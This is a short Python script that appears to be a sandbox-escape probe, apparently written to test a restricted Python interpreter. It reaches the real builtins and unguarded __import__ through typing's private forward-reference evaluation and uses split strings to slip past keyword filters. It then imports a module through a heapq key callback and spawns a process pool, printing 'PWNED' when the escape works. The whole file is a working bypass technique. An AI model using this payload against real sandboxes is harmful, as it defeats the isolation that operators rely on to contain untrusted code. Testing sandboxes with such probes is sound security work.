# proc: concurrent.futures.ProcessPoolExecutor imported from a stdlib frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
__file__ = None
heapq.nsmallest(1, ["concurrent.futures"], key=imp)
cf = imp("concurrent.futures").futures
try:
    with cf.ProcessPoolExecutor(1) as ex:
        print(M, ex.submit(abs, -7).result())
except Exception as e:
    print("refused:", type(e).__name__, e)
